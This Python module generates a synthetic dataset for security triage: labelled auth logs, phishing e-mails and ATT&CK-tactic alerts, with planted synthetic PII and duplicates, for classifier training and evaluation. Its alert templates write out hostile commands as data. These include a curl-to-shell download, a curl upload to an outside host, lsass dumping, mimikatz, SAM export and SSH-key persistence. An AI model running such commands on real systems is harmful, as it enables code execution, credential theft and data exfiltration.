"""A security-domain instruction set, generated deterministically in code (no model, no download).

Three triage tasks, each with one fixed system prompt and a one-label answer that the input
determines, so that accuracy (exact match) means something and chance is known:

    auth_triage   an sshd or web-login log snippet -> "brute-force" (>= 4 failed logins from one
                  address, against one account or a list), "scan" (>= 4 pre-auth probes or
                  scanner requests from one address, no login attempt) or "benign" (at most 2
                  failures, from different addresses, among ordinary logins). The attack lines
                  are scattered among successful logins and connection noise. Chance 1/3.
    phishing      a short e-mail (From, Subject, body, link, signature) -> "phishing" or
                  "legitimate". The ground truth is structural, as a mail analyst would judge
                  it: a message is legitimate iff its sender and every link are on the official
                  domain of the organisation it comes from; phishing uses lookalike or unrelated
                  domains. Wording is *not* a giveaway: legitimate security notices also say
                  "verify" and "immediately", some phishing is calm. Chance 1/2.
    alert_tactic  an EDR/Sysmon/IDS/proxy/SIEM alert -> the MITRE ATT&CK tactic of the activity
                  (execution, persistence, credential-access, discovery, command-and-control,
                  exfiltration), five behaviours each; IP addresses, domains and hashes appear
                  in every class. Chance 1/6.

Why labels and not extracted values ("which address, how many failures", "list the IOCs"): a
model of a few million parameters pretrained for minutes has not formed the attention circuits
that copy an arbitrary string out of its input (bench/NOTES.md). For the same reason auth triage
does not ask "brute force against one account or password spray across many": telling a
repeated account from distinct ones needs the same token-matching circuit. Deciding *what* a
log or alert shows is the analyst's first step and is within reach; every label still has to
be read from the input.

Records are chat messages (system, user, assistant) as JSON Lines with a `task` field and a
`meta` field (planted PII types, planted duplicates) that `yunque data prepare` ignores.
Part of the records carry realistic synthetic PII and secrets (see `yunque.demo.synthetic`)
in places that do not change the answer: a reporter line, a signature, a leaked password in a
web log, a leaked config line, a bearer token. Some records are planted exact and near
duplicates (a copy with a short remark appended) so that deduplication has work to do.
The same seed gives the same bytes.
"""

from __future__ import annotations

import base64
import hashlib
import json
import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from pathlib import Path

from yunque.demo import synthetic as syn
from yunque.errors import ConfigError

TASKS = ("auth_triage", "phishing", "alert_tactic")
SYSTEM = {
    "auth_triage": "You are a SOC analyst. Triage the auth log. Answer: brute-force, scan or benign.",
    "phishing": "You are a mail security filter. Classify the message. Answer: phishing or legitimate.",
    "alert_tactic": "You triage security alerts. Answer with the MITRE ATT&CK tactic of the activity.",
}
QUICK_RECORDS = 600
DEFAULT_RECORDS = 3000
_REMARKS = ("Thanks.", "Please advise.", "(forwarded again)", "Sent from my phone.", "Any update?")


@dataclass
class DomainInfo:
    path: str
    sha256: str
    records: int
    per_task: dict[str, int] = field(default_factory=dict)
    labels: dict[str, int] = field(default_factory=dict)  # "task:label" -> records
    with_pii: int = 0
    pii_types: dict[str, int] = field(default_factory=dict)
    exact_duplicates: int = 0
    near_duplicates: int = 0


def task_of(messages: list[dict]) -> str | None:
    """The task of a conversation, from its system prompt (survives `data prepare`, which drops `task`)."""
    if messages and messages[0].get("role") == "system":
        for task, prompt in SYSTEM.items():
            if messages[0]["content"].strip() == prompt:
                return task
    return None


def normalize_answer(text: str) -> str:
    """Exact match ignores case, surrounding space and runs of whitespace, nothing else."""
    return " ".join(text.strip().lower().split())


def answers_match(prediction: str, reference: str) -> bool:
    return normalize_answer(prediction) == normalize_answer(reference)


# --- auth_triage -------------------------------------------------------------------------

VERDICTS = ("brute-force", "scan", "benign")
_ACCOUNTS = (
    "root",
    "admin",
    "ubuntu",
    "deploy",
    "git",
    "postgres",
    "oracle",
    "test",
    "guest",
    "backup",
    "ftp",
    "www-data",
    "jenkins",
    "support",
    "user1",
    "svc_sql",
)
_HOST_USERS = ("root", "deploy", "git", "ubuntu", "backup")  # exist on the host: no "invalid user"
_SSH_PROBES = (
    "Did not receive identification string from {ip}",
    "Connection reset by {ip} [preauth]",
    "Unable to negotiate with {ip}: no matching key exchange method found",
    "banner exchange: Connection from {ip}: invalid format",
)
_WEB_PROBES = (
    "/.env",
    "/wp-login.php",
    "/phpmyadmin/",
    "/.git/config",
    "/admin/config.php",
    "/actuator/env",
    "/cgi-bin/luci",
    "/server-status",
    "/backup.zip",
)


def _auth_triage(rng: random.Random, pii: bool, verdict: str, short: bool = False) -> tuple[str, str, list[str]]:
    """A log whose verdict follows from what its lines say and how many come from one address:
    >= 4 failed logins from one address (brute force, one account or a list of them), >= 4
    pre-auth probes or scanner requests from one address and no login attempt (scan), or at
    most 2 failures, from different addresses, among ordinary logins (benign). `short`: at most
    6 lines rather than 10 and no timestamps, by the same rules (for a pretrained model's slower
    steps: its tokenizer spends a token on every digit)."""
    web = rng.random() < 0.4
    host = rng.choice(("bastion", "web01", "vpn-gw", "db02", "jump1", "app03"))
    staff = [syn.person(rng)[1] for _ in range(3)]
    staff = staff if web else [s.split(".")[0] for s in staff]
    used: set[str] = set()

    def fresh_ip() -> str:
        while (ip := syn.public_ip(rng) if rng.random() < 0.5 else syn.private_ip(rng)) in used:
            pass
        used.add(ip)
        return ip

    events: list[tuple[str, str, str]] = []
    if verdict == "benign":
        for _ in range(rng.randint(0, 2)):  # mistyped passwords, never twice from one address
            events.append(("fail", fresh_ip(), rng.choice(staff)))
        quiet = rng.randint(2, 3) if short else rng.randint(3, 6)
    else:
        attacker, n = fresh_ip(), rng.randint(4, 5 if short else 7)
        if verdict == "brute-force":  # one account guessed again and again, or a list walked
            accounts = [rng.choice(_ACCOUNTS)] * n if rng.random() < 0.5 else rng.sample(_ACCOUNTS, n)
            events += [("fail", attacker, a) for a in accounts]
        else:
            events += [("probe", attacker, "") for _ in range(n)]
        quiet = rng.randint(0, 1) if short else rng.randint(1, 3)
    ok_ips: list[str] = []  # staff log in again from where they did; never from a failing address
    noise = 0
    for _ in range(quiet):
        kind = "noise" if noise < 2 and rng.random() < 0.3 else "ok"  # at most 2: scans are >= 4
        noise += kind == "noise"
        ip = rng.choice(ok_ips) if kind == "ok" and ok_ips and rng.random() < 0.3 else fresh_ip()
        ok_ips += [ip] if kind == "ok" else []
        events.append((kind, ip, rng.choice(staff)))
    rng.shuffle(events)
    t = start = datetime(2024, 1, 1) + timedelta(days=rng.randrange(365), seconds=rng.randrange(86400))
    leak = web and pii and rng.random() < 0.5
    planted: list[str] = []
    lines = []
    # Condensed lines (time of day, no pid / port) keep a snippet near 200 tokens.
    for kind, ip, user in events:
        t += timedelta(seconds=rng.randint(1, 40) if verdict == "benign" else rng.randint(1, 6))
        ts = f"{t:%H:%M:%S}"
        if web:
            if kind == "noise":
                lines.append(f"{ts} GET /login 200 ip={ip}")
            elif kind == "probe":
                lines.append(f"{ts} GET {rng.choice(_WEB_PROBES)} 404 ip={ip}")
            else:
                status = "401" if kind == "fail" else "302"
                extra = f" password={syn.password(rng)}" if leak and kind == "fail" and rng.random() < 0.4 else ""
                lines.append(f"{ts} POST /login {status} user={user}{extra} ip={ip}")
        elif kind == "fail":
            invalid = "" if user in _HOST_USERS or user in staff else "invalid user "
            lines.append(f"{ts} sshd: Failed password for {invalid}{user} from {ip}")
        elif kind == "ok":
            lines.append(f"{ts} sshd: Accepted {rng.choice(('publickey', 'password'))} for {user} from {ip}")
        elif kind == "probe":
            lines.append(f"{ts} sshd: " + rng.choice(_SSH_PROBES).format(ip=ip))
        else:
            lines.append(f"{ts} sshd: Connection closed by {ip} [preauth]")
    if leak and any("password=" in line for line in lines):
        planted.append("SECRET_ASSIGNMENT")
    header = ""
    if pii and (rng.random() < 0.6 or not planted):
        name, login = syn.person(rng)
        header = f"Ticket from {name} <{syn.email(rng, login)}>, {syn.phone(rng)}:\n"
        planted += ["EMAIL", "PHONE"]
    question = rng.choice(("Brute force, scan or benign?", "What is happening in this log?", "Triage this log."))
    if short:  # a digit is a token to a pretrained model's tokenizer: no date, no times
        lines = [line.split(" ", 1)[1] for line in lines]
    day = "" if short else f", {start:%Y-%m-%d}"
    user_text = f"{header}Auth log from {host}{day}:\n" + "\n".join(lines) + f"\n\n{question}"
    return user_text, verdict, sorted(set(planted))


# --- phishing ----------------------------------------------------------------------------

_LEGIT = {
    "bank": [
        (
            "Your {month} statement is ready",
            "Your statement for {month} is now available in online banking. View it at {link}",
        ),
        (
            "New sign-in to your account",
            "We noticed a new sign-in from {city}. If this was you, no action is needed. If not, verify your recent activity at {link}",  # noqa: E501
        ),
    ],
    "it": [
        (
            "Scheduled maintenance on Saturday",
            "Email and VPN will be unavailable from 22:00 to 23:30 on Saturday. Details: {link}",
        ),
        (
            "Your password expires in 7 days",
            "Your network password expires in 7 days. Change it on the self-service portal: {link}",
        ),
    ],
    "shop": [
        (
            "Your order #{order} has shipped",
            "Good news! Order #{order} is on its way and should arrive {day}. Track it here: {link}",
        ),
        (
            "Receipt for order #{order}",
            "Thank you for your purchase. Your receipt for order #{order} ({amount}) is at {link}",
        ),
    ],
    "saas": [
        ("Your invoice for {month}", "Your invoice of {amount} for {month} is available. Download it from {link}"),
        (
            "Security alert: new device",
            "A new device signed in to your workspace from {city}. Review your devices immediately at {link}",
        ),
    ],
    "travel": [
        ("Booking {ref} confirmed", "Your booking {ref} to {city} on {day} is confirmed. Manage your trip at {link}"),
        ("Check-in is open for {ref}", "Online check-in for your flight to {city} is now open. Check in at {link}"),
    ],
    "parcel": [
        (
            "Delivery scheduled for {day}",
            "Your parcel {ref} will be delivered {day} between 9:00 and 13:00. Reschedule at {link}",
        )
    ],
    "utility": [
        (
            "Your bill is ready",
            "Your bill of {amount} is ready and will be paid by direct debit on {day}. See it at {link}",
        )
    ],
}
_PHISH = [
    (
        "Unusual sign-in activity",
        "We detected unusual activity on your {org} account. Verify your identity within 24 hours or your account will be suspended: {link}",  # noqa: E501
    ),
    (
        "Action required: mailbox full",
        "Your mailbox has exceeded its storage limit. Log in now to keep receiving mail: {link}",
    ),
    (
        "Delivery failed: fee required",
        "We could not deliver parcel {ref}. Pay the {amount} redelivery fee here: {link}",
    ),
    (
        "Invoice {order} overdue",
        "Please find the overdue invoice {order} of {amount}. Review and settle it today: {link}",
    ),
    (
        "Your password expires today",
        "Your {org} password expires today. Keep your current password by confirming it at {link}",
    ),
    (
        "Refund of {amount} pending",
        "You are eligible for a refund of {amount}. Submit your card details to receive it: {link}",
    ),
    ("Shared document: Q{q} bonus plan", "{name} shared a document with you: Q{q} bonus plan. Open it at {link}"),
]
_CITIES = ("Lisbon", "Osaka", "Nairobi", "Toronto", "Krakow", "Austin", "Lyon", "Seoul", "Lima", "Oslo")
_MONTHS = ("January", "February", "March", "April", "May", "June", "July", "August", "September", "October")
_DAYS = ("today", "tomorrow", "on Monday", "on Tuesday", "on Thursday", "on Friday")


def _phishing(rng: random.Random, pii: bool, label: str, short: bool = False) -> tuple[str, str, list[str]]:
    org = rng.choice(sorted(syn.ORGS))
    domain, sector = syn.ORGS[org]
    slots = {
        "org": org,
        "month": rng.choice(_MONTHS),
        "city": rng.choice(_CITIES),
        "day": rng.choice(_DAYS),
        "order": str(rng.randint(100000, 999999)),
        "ref": f"{rng.choice('BKRZ')}{rng.randint(10000, 99999)}",
        "amount": f"${rng.randint(2, 900)}.{rng.randint(0, 99):02d}",
        "q": str(rng.randint(1, 4)),
        "name": syn.person(rng)[0],
    }
    path = rng.choice(("account", "login", "orders", "billing", "security", "docs", "help"))
    if label == "legitimate":
        subject, body = rng.choice(_LEGIT[sector])
        host = rng.choice((domain, f"www.{domain}", f"{rng.choice(('account', 'my', 'portal'))}.{domain}"))
        sender = f"{rng.choice(('no-reply', 'alerts', 'service', 'billing', 'it'))}@{domain}"
        link = f"https://{host}/{path}"
    else:
        subject, body = rng.choice(_PHISH)
        bad = syn.bad_domain(rng, domain if rng.random() < 0.8 else None)
        sender_dom = bad if rng.random() < 0.6 else syn.bad_domain(rng, domain)
        sender = f"{rng.choice(('no-reply', 'security', 'support', 'account', 'admin'))}@{sender_dom}"
        link = f"{rng.choice(('http', 'https'))}://{bad}/{path}"
    slots["link"] = link
    first, last = rng.choice(syn.FIRST), rng.choice(syn.LAST)
    # Greetings and sign-offs are shared by both classes: variety, so that two messages from one
    # template are not near duplicates, without a label cue.
    greeting = rng.choice(("", f"Hi {first},\n", f"Hello {first},\n", "Dear customer,\n", f"Dear {first} {last},\n"))
    closing = rng.choice(
        (
            "",
            f"\nThanks,\nThe {org} team",
            f"\nKind regards,\n{org}",
            f"\n{org} Customer Care",
            "\nPlease do not reply to this message.",
        )
    )
    greeting = "" if short else greeting
    text = f"From: {org} <{sender}>\nSubject: {subject.format(**slots)}\n\n{greeting}{body.format(**slots)}{closing}"
    planted: list[str] = []
    if pii:  # independent of the label, so scrubbing can never leak it
        name, login = syn.person(rng)
        choice = rng.randrange(3)
        if choice == 0:
            text = f"Reported by {name} <{syn.email(rng, login)}>:\n{text}"
            planted.append("EMAIL")
        elif choice == 1:
            text += f"\n--\n{name} | {syn.phone(rng)} | {syn.email(rng, login)}"
            planted += ["EMAIL", "PHONE"]
        else:
            text = f"Reported by {name}, who says card {syn.credit_card(rng)} may be affected:\n{text}"
            planted.append("CREDIT_CARD")
    question = rng.choice(
        ("Is this message phishing or legitimate?", "Classify this e-mail.", "Phishing or legitimate?")
    )
    return f"{text}\n\n{question}", label, planted


# --- alert_tactic ------------------------------------------------------------------------

# What an alert's activity is, as MITRE ATT&CK names the tactic. Each has several behaviours so
# that no single word decides it; indicators (addresses, domains, hashes) appear in every class.
_BEHAVIOURS = {
    "execution": (
        "{parent} spawned powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {b64}",
        "mshta.exe ran a remote HTA from http://{domain}/{word}.hta",
        "wscript.exe executed C:\\Users\\{login}\\Downloads\\{word}.js from a mail attachment",
        "WINWORD.EXE started cmd.exe /c %TEMP%\\{word}.bat",
        "the web server user ran bash -c 'curl -s http://{domain}/{word}.sh | sh'",
    ),
    "persistence": (
        "schtasks /create /sc onlogon /tn {Word}Update /tr C:\\ProgramData\\{word}.exe",
        "Run key HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{Word} set to %APPDATA%\\{word}.exe",
        "new service {Word}Svc installed with binary C:\\Windows\\Temp\\{word}.exe",
        "crontab entry added: @reboot /tmp/.{word}/{word}",
        "SSH public key appended to /root/.ssh/authorized_keys",
    ),
    "credential-access": (
        "procdump.exe -ma lsass.exe C:\\Windows\\Temp\\{word}.dmp",
        "mimikatz sekurlsa::logonpasswords run by {parent}",
        "reg.exe save HKLM\\SAM C:\\Users\\Public\\{word}.hiv",
        "rundll32.exe comsvcs.dll, MiniDump {pid} C:\\Temp\\{word}.dmp full",
        "{n} Kerberos TGS requests with RC4 for service accounts in {n2} s",
    ),
    "discovery": (
        'net group "Domain Admins" /domain',
        "nltest /domain_trusts /all_trusts",
        "AdFind.exe -f objectcategory=computer > {word}.txt",
        "whoami /all; ipconfig /all; arp -a",
        "{n} hosts of 10.{a}.{b}.0/24 probed on ports 445 and 3389",
    ),
    "command-and-control": (
        "beacon to {domain} every {n} s with jitter",
        "DNS TXT queries to long random subdomains of {domain}",
        "TLS to {ip}:{port} with a self-signed certificate every {n} s",
        "HTTPS to {domain} matching a Cobalt Strike JA3 fingerprint",
        "reverse shell from {parent} to {ip}:4444",
    ),
    "exfiltration": (
        "rclone copy of \\\\fileserver\\{word} to mega: {n} GB",
        "{n} MB uploaded to {ip} over HTTPS at 03:{n2:02d}",
        "7z archive of C:\\Users\\{login}\\Documents posted to {domain}",
        "curl -T {word}.zip ftp://{ip}/",
        "{n} GB copied to a USB mass-storage device",
    ),
}
TACTICS = tuple(_BEHAVIOURS)
LABELS = {"auth_triage": VERDICTS, "phishing": ("phishing", "legitimate"), "alert_tactic": TACTICS}
DESCRIPTION = {  # (input, answer) for the report
    "auth_triage": (
        "an sshd or web-login log",
        "brute-force (>= 4 failed logins from one address), scan (>= 4 pre-auth probes from one address) or benign",
    ),
    "phishing": (
        "an e-mail",
        "phishing or legitimate: legitimate iff the sender and every link are on the "
        "official domain of the organisation named",
    ),
    "alert_tactic": ("an EDR / IDS / proxy alert", "its MITRE ATT&CK tactic: " + ", ".join(TACTICS)),
}
_WORDS = ("update", "helper", "sync", "agent", "cache", "report", "office", "svc", "data", "tools", "backup")
_PARENTS = ("explorer.exe", "cmd.exe", "svchost.exe", "python3", "java", "outlook.exe", "w3wp.exe")


def _alert_tactic(rng: random.Random, pii: bool, tactic: str, short: bool = False) -> tuple[str, str, list[str]]:
    word = rng.choice(_WORDS)
    slots = {
        "word": word,
        "Word": word.capitalize(),
        "parent": rng.choice(_PARENTS),
        "login": syn.person(rng)[1],
        "domain": syn.bad_domain(rng),
        "ip": syn.public_ip(rng),
        "port": rng.choice((443, 8443, 8080, 53)),
        "pid": rng.randint(400, 9000),
        "n": rng.randint(2, 90),
        "n2": rng.randint(1, 59),
        "a": rng.randrange(256),
        "b": rng.randrange(256),
        "b64": base64.b64encode(rng.randbytes(rng.randint(9, 18))).decode(),
    }
    what = rng.choice(_BEHAVIOURS[tactic]).format(**slots)
    host = f"{rng.choice(('WS', 'LT', 'SRV'))}-{rng.randint(100, 9999):04d}"
    source = rng.choice(("EDR", "Sysmon", "IDS", "Proxy", "SIEM"))
    extra = []  # indicators and context in every class, so that none of them is the cue
    if rng.random() < 0.5 and not short:  # a hash is 32 to 64 tokens to a pretrained model's tokenizer
        extra.append(
            f"image {'MD5' if rng.random() < 0.6 else 'SHA-256'} "
            f"{syn.md5(rng) if rng.random() < 0.6 else syn.sha256(rng)}"
        )
    if rng.random() < 0.4:
        extra.append(f"peer {syn.public_ip(rng) if rng.random() < 0.5 else syn.bad_domain(rng)}")
    extra.append(f"severity {rng.choice(('low', 'medium', 'high'))}")
    rng.shuffle(extra)
    alert = f"{source} alert on {host} ({syn.private_ip(rng)}): {what}; " + "; ".join(extra) + "."
    planted: list[str] = []
    if pii:
        name, login = syn.person(rng)
        choice = rng.randrange(3)
        if choice == 0:
            alert = f"Analyst: {name} <{syn.email(rng, login)}>, on call {syn.phone(rng)}\n{alert}"
            planted += ["EMAIL", "PHONE"]
        elif choice == 1:
            key_id, secret = syn.aws_keys(rng)
            alert += f"\nFound in config.ini:\naws_access_key_id = {key_id}\naws_secret_access_key = {secret}"
            planted += ["AWS_ACCESS_KEY", "AWS_SECRET_KEY"]
        else:
            alert += f"\nRequest header: Authorization: Bearer {syn.jwt(rng, login)}"
            planted.append("JWT")
    question = rng.choice(("Which ATT&CK tactic is this?", "Classify this alert.", "What is the attacker doing?"))
    return f"Alert:\n{alert}\n\n{question}", tactic, planted


# --- the data set ------------------------------------------------------------------------


def generate(
    n: int = DEFAULT_RECORDS,
    seed: int = 0,
    pii_fraction: float = 0.3,
    duplicate_fraction: float = 0.03,
    near_duplicate_fraction: float = 0.03,
    short: bool = False,
) -> list[dict]:
    """`n` records (planted duplicates included), tasks in equal shares, in a seeded random order.
    `short`: inputs sized for a pretrained model's tokenizer, which spends a token on every digit and
    hex character: auth logs of at most 6 lines without timestamps, alerts without file hashes,
    e-mails without a greeting line (the pretrained demo's data)."""
    if n < 2 * len(TASKS):
        raise ConfigError(f"domain records: need at least {2 * len(TASKS)}, got {n}")
    for name, v in (
        ("pii_fraction", pii_fraction),
        ("duplicate_fraction", duplicate_fraction),
        ("near_duplicate_fraction", near_duplicate_fraction),
    ):
        if not 0 <= v <= 1:
            raise ConfigError(f"domain {name}: must be in [0, 1], got {v}")
    rng = random.Random(seed)
    n_dup, n_near = round(n * duplicate_fraction), round(n * near_duplicate_fraction)
    base = n - n_dup - n_near
    tasks = [TASKS[i % len(TASKS)] for i in range(base)]
    # Labels cycle within each task, so classes are balanced to within one record.
    cycle = LABELS
    makers = {"auth_triage": _auth_triage, "phishing": _phishing, "alert_tactic": _alert_tactic}
    seen = dict.fromkeys(TASKS, 0)
    records = []
    for task in tasks:
        pii = rng.random() < pii_fraction
        label = cycle[task][seen[task] % len(cycle[task])]
        seen[task] += 1
        user, answer, planted = makers[task](rng, pii, label, short) if short else makers[task](rng, pii, label)
        records.append(_record(task, user, answer, {"pii": planted}))
    # Distinct sources: two near copies of one record with the same remark would be an exact pair.
    for src in rng.sample(range(base), n_dup):
        records.append({**records[src], "meta": {**records[src]["meta"], "duplicate_of": src}})
    for src in rng.sample(range(base), n_near):
        rec = records[src]
        user = rec["messages"][1]["content"] + f"\n{rng.choice(_REMARKS)}"
        records.append(
            _record(rec["task"], user, rec["messages"][2]["content"], {**rec["meta"], "near_duplicate_of": src})
        )
    rng.shuffle(records)
    return records


def _record(task: str, user: str, answer: str, meta: dict) -> dict:
    return {
        "task": task,
        "messages": [
            {"role": "system", "content": SYSTEM[task]},
            {"role": "user", "content": user},
            {"role": "assistant", "content": answer},
        ],
        "meta": meta,
    }


def write_domain(path: str | Path, n: int = DEFAULT_RECORDS, seed: int = 0, **kwargs) -> DomainInfo:
    """Generate and write the records as JSON Lines; returns counts and the file's SHA-256."""
    records = generate(n, seed, **kwargs)
    data = "".join(json.dumps(r, ensure_ascii=False, sort_keys=True) + "\n" for r in records).encode("utf-8")
    out = Path(path)
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_bytes(data)
    info = DomainInfo(path=str(out), sha256=hashlib.sha256(data).hexdigest(), records=len(records))
    for r in records:
        info.per_task[r["task"]] = info.per_task.get(r["task"], 0) + 1
        label = f"{r['task']}:{r['messages'][2]['content']}"
        info.labels[label] = info.labels.get(label, 0) + 1
        if r["meta"]["pii"]:
            info.with_pii += 1
            for t in r["meta"]["pii"]:
                info.pii_types[t] = info.pii_types.get(t, 0) + 1
        info.exact_duplicates += "duplicate_of" in r["meta"]
        info.near_duplicates += "near_duplicate_of" in r["meta"]
    info.pii_types = dict(sorted(info.pii_types.items()))
    return info
